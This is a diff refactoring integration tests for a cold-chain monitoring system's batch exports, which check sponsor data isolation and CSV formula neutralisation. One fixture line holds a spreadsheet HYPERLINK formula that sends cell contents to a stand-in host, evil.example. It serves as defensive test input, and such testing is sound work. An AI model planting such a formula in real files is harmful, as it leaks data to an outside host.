@@ -13,28 +13,19 @@ from `export_batch(..., viewer=<sponsor viewer>)` in every format.
 from __future__ import annotations
 
 import json
-from collections.abc import AsyncIterator, Callable
-from dataclasses import dataclass
-from datetime import UTC, datetime, timedelta
+from collections.abc import AsyncIterator
+from datetime import UTC, datetime
 from pathlib import Path
-from typing import Any
 
 import pytest
-from reportlab.platypus import KeepTogether, LongTable, Paragraph
-from sqlalchemy import Engine
 
-from api.export import ExportSigner, export_batch
+from api.export import ExportSigner
 from api.export.document import ExportMeta
 from api.export.pdf_format import story
-from api.export.record import load_batch_record
 from api.export.signing import verify_bytes
-from api.export.walk import RecordEnd, Rules, walk_record
 from coldchain.catalog import (
     Viewer,
     catalog_session,
-    create_catalog_engine,
-    import_fleet,
-    upgrade_catalog,
 )
 from coldchain.catalog.alerts import (
     NewAlert,
@@ -44,27 +35,26 @@ from coldchain.catalog.alerts import (
     resolve_alert,
 )
 from coldchain.catalog.logger_reports import record_report, resolve_target
-from coldchain.config import Settings
-from coldchain.influx import InfluxClient
 from coldchain.loggers.serialize import device_record
-from coldchain.times import to_ms
+from tests.support.export_world import (
+    NOW,
+    ExportWorld,
+    at,
+    export,
+    final_report,
+    iso,
+    open_export_world,
+    pdf_texts,
+    series,
+    write,
+)
 from tests.support.real_loggers import real_file
 from tests.support.servers import InfluxServer
 
 pytestmark = pytest.mark.integration
 
-DAY = datetime(2026, 3, 2, tzinfo=UTC)
-NOW = DAY + timedelta(hours=12)
 ACME = Viewer("alice", "sponsor_viewer", "ACME")
 FORMATS = ("json", "csv", "pdf")
-
-
-def at(hours: float) -> datetime:
-    return DAY + timedelta(hours=hours)
-
-
-def _iso(hours: float) -> str:
-    return at(hours).isoformat().replace("+00:00", "Z")
 
 
 FLEET = f"""\
@@ -86,102 +76,47 @@ batches:
   - {{id: LOT-B22, product: VAX-B}}
 placements:
   - {{batch: LOT-B22, unit: BSL/FRIDGE-01, from: "2022-05-09T22:00:00Z", to: "2022-06-20T00:00:00Z"}}
-  - {{batch: LOT-A, unit: BSL/FRIDGE-01, from: "{_iso(0)}", to: "{_iso(12)}"}}
-  - {{batch: LOT-B, unit: BSL/FRIDGE-01, from: "{_iso(0)}", to: "{_iso(12)}"}}
-  - {{batch: LOT-B2, unit: BSL/FRIDGE-02, from: "{_iso(0)}", to: "{_iso(6)}"}}
-  - {{batch: LOT-A2, unit: BSL/FRIDGE-02, from: "{_iso(6)}", to: "{_iso(12)}"}}
+  - {{batch: LOT-A, unit: BSL/FRIDGE-01, from: "{iso(0)}", to: "{iso(12)}"}}
+  - {{batch: LOT-B, unit: BSL/FRIDGE-01, from: "{iso(0)}", to: "{iso(12)}"}}
+  - {{batch: LOT-B2, unit: BSL/FRIDGE-02, from: "{iso(0)}", to: "{iso(6)}"}}
+  - {{batch: LOT-A2, unit: BSL/FRIDGE-02, from: "{iso(6)}", to: "{iso(12)}"}}
 """
 
 
-@dataclass
-class World:
-    influx_url: str
-    influx_db: str
-    engine: Engine
-    data_dir: Path
-
-
 @pytest.fixture
-async def world(influxd: InfluxServer, influx_db: str, tmp_path: Path) -> AsyncIterator[World]:
-    engine = create_catalog_engine(f"sqlite:///{tmp_path / 'catalog.sqlite3'}")
-    upgrade_catalog(engine)
-    fleet = tmp_path / "fleet.yaml"
-    fleet.write_text(FLEET)
-    import_fleet(engine, fleet, actor="test")
-    async with InfluxClient(influxd.url, influx_db) as influx:
-        await influx.create_database()
-        yield World(influxd.url, influx_db, engine, tmp_path / "var")
-        await influx.drop_database()
-    engine.dispose()
+async def world(
+    influxd: InfluxServer, influx_db: str, tmp_path: Path
+) -> AsyncIterator[ExportWorld]:
+    async with open_export_world(FLEET, influxd.url, influx_db, tmp_path) as world:
+        yield world
 
 
-def _series(
-    device: str, start_h: float, end_h: float, value: Callable[[float], float], step_min: int = 1
-) -> list[str]:
-    lines = []
-    minute = 0
-    while (hour := start_h + minute / 60) < end_h:
-        lines.append(
-            f"reading,device={device},sensor=p1,site=BSL,source=unit "
-            f"temp_c={value(hour)} {to_ms(at(hour))}"
-        )
-        minute += step_min
-    return lines
-
-
-async def _write(world: World, lines: list[str]) -> None:
-    async with InfluxClient(world.influx_url, world.influx_db) as influx:
-        await influx.write_lines(lines)
-
-
-async def _export(world: World, batch: str, fmt: str, viewer: Viewer | None = None) -> bytes:
-    signer = ExportSigner.load_or_create(world.data_dir)
-    async with InfluxClient(world.influx_url, world.influx_db) as influx:
-        stream = export_batch(
-            batch,
-            fmt,
-            influx=influx,
-            catalog_engine=world.engine,
-            signer=signer,
-            actor="export-bot",
-            viewer=viewer,
-            now=NOW,
-        )
-        body = b"".join([chunk async for chunk in stream])
-    verify_bytes(body, signer.public_key)  # raises unless the signed export verifies
+async def _export(world: ExportWorld, batch: str, fmt: str, viewer: Viewer | None = None) -> bytes:
+    """The export, whose signature must verify."""
+    body = await export(world, batch, fmt, viewer)
+    verify_bytes(body, ExportSigner.load_or_create(world.data_dir).public_key)
     return body
 
 
-def _texts(flowables: list[Any]) -> str:
-    out: list[str] = []
-    for item in flowables:
-        if isinstance(item, Paragraph):
-            out.append(item.text)
-        elif isinstance(item, LongTable):
-            out.append(_texts([c for row in vars(item)["_cellvalues"] for c in row]))
-        elif isinstance(item, KeepTogether):
-            out.append(_texts(vars(item)["_content"]))
-    return "\n".join(out)
-
-
-async def _pdf_text(world: World, batch: str, viewer: Viewer | None) -> str:
+async def _pdf_text(world: ExportWorld, batch: str, viewer: Viewer | None) -> str:
     """The text of the PDF's paragraphs and tables, as `export_batch` would lay them out."""
-    record = load_batch_record(world.engine, batch=batch, viewer=viewer, now=NOW)
-    async with InfluxClient(world.influx_url, world.influx_db) as influx:
-        async for event in walk_record(record, influx, rules=Rules.from_settings(Settings())):
-            if isinstance(event, RecordEnd):
-                return _texts(story(event.report, ExportMeta("pdf", "export-bot", NOW, "test")))
-    raise AssertionError("the walk ends with RecordEnd")
+    report = await final_report(world, batch, viewer)
+    return pdf_texts(story(report, ExportMeta("pdf", "export-bot", NOW, "test")))
 
 
-async def _all_formats(world: World, batch: str, viewer: Viewer | None) -> dict[str, str]:
+async def _all_formats(world: ExportWorld, batch: str, viewer: Viewer | None) -> dict[str, str]:
     out = {fmt: (await _export(world, batch, fmt, viewer)).decode("latin-1") for fmt in FORMATS}
     out["pdf_text"] = await _pdf_text(world, batch, viewer)
     return out
 
 
 def _import(
-    world: World, name: str, unit: str, file_name: str, span: tuple[datetime, datetime], actor: str
+    world: ExportWorld,
+    name: str,
+    unit: str,
+    file_name: str,
+    span: tuple[datetime, datetime],
+    actor: str,
 ) -> None:
     with catalog_session(world.engine) as session:
         record_report(
@@ -197,7 +132,7 @@ def _import(
 
 
 async def test_another_sponsors_logger_report_of_another_year_never_reaches_the_record(
-    world: World,
+    world: ExportWorld,
 ) -> None:
     """BETA's 2022 Fridge-tag run (38 days, 2 May to 8 June, max 30.3 °C) was imported onto
     the fridge ACME's LOT-A shares in 2026. ACME's record carries none of it, in any
@@ -211,7 +146,7 @@ async def test_another_sponsors_logger_report_of_another_year_never_reaches_the_
         (datetime(2022, 5, 1, 22, 0, tzinfo=UTC), datetime(2022, 6, 8, 21, 55, tzinfo=UTC)),
         actor="beta-ops",
     )
-    await _write(world, _series("FRIDGE-01", 0, 12, lambda _: 5.0))
+    await write(world, series("FRIDGE-01", 0, 12, lambda _: 5.0))
     texts = await _all_formats(world, "LOT-A", ACME)
     assert json.loads(texts["json"])["summary"]["device_reports"] == []
     for fmt, text in texts.items():
@@ -229,14 +164,14 @@ async def test_another_sponsors_logger_report_of_another_year_never_reaches_the_
 
 
 async def test_a_logger_file_spanning_two_sponsors_shows_each_only_its_own_time(
-    world: World,
+    world: ExportWorld,
 ) -> None:
     """A Q-tag's file covers FRIDGE-02 from 00:00 to 12:00: BETA's LOT-B2 until 06:00 (at
     20 °C), ACME's LOT-A2 after (5 °C). ACME's record compares only its six hours' readings,
     leaves out the device's whole-run figures (they cover BETA's time too), and neither
     names the file nor who imported it."""
     _import(world, "qtag_run2", "BSL/FRIDGE-02", "BETA-shared-run.txt", (at(0), at(12)), "beta-ops")
-    await _write(world, _series("FRIDGE-02", 0, 12, lambda h: 20.0 if h < 6 else 5.0, step_min=10))
+    await write(world, series("FRIDGE-02", 0, 12, lambda h: 20.0 if h < 6 else 5.0, step_min=10))
     texts = await _all_formats(world, "LOT-A2", ACME)
     [report] = json.loads(texts["json"])["summary"]["device_reports"]
     assert report["readings_stored"] == 36  # 06:00 to 12:00 every 10 minutes
@@ -258,10 +193,10 @@ async def test_a_logger_file_spanning_two_sponsors_shows_each_only_its_own_time(
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"LOT-B door")'
 
 
-async def _handled_alarm(world: World) -> None:
+async def _handled_alarm(world: ExportWorld) -> None:
     """Two hours at 12 °C in the shared FRIDGE-01; the operator's comment names BETA's lot,
     QA's root cause is a spreadsheet formula."""
-    await _write(world, _series("FRIDGE-01", 0, 12, lambda h: 12.0 if 4 <= h < 6 else 5.0))
+    await write(world, series("FRIDGE-01", 0, 12, lambda h: 12.0 if 4 <= h < 6 else 5.0))
     with catalog_session(world.engine) as session:
         open_alert(
             session,
@@ -287,7 +222,7 @@ async def _handled_alarm(world: World) -> None:
         close_alert(session, "al-fridge-1", actor="qa-tom", at=at(7), root_cause=HYPERLINK)
 
 
-async def test_a_sponsors_record_has_alert_states_and_times_only(world: World) -> None:
+async def test_a_sponsors_record_has_alert_states_and_times_only(world: ExportWorld) -> None:
     """The alert API gives a sponsor an alert's states and times; so does their export, in
     every format. The alarm still counts as explained (QA closed it with a root cause):
     the sponsor's verdict is QA's."""
@@ -321,7 +256,7 @@ async def test_a_sponsors_record_has_alert_states_and_times_only(world: World) -
     assert qa_alert["acknowledge_comment"] == "moved LOT-B of BETA out"
 
 
-async def test_qas_csv_neutralises_formulas_but_keeps_numbers(world: World) -> None:
+async def test_qas_csv_neutralises_formulas_but_keeps_numbers(world: ExportWorld) -> None:
     """QA's CSV carries the root cause, but as text: its cell begins with a single quote;
     the header says so. Temperatures stay numbers."""
     await _handled_alarm(world)
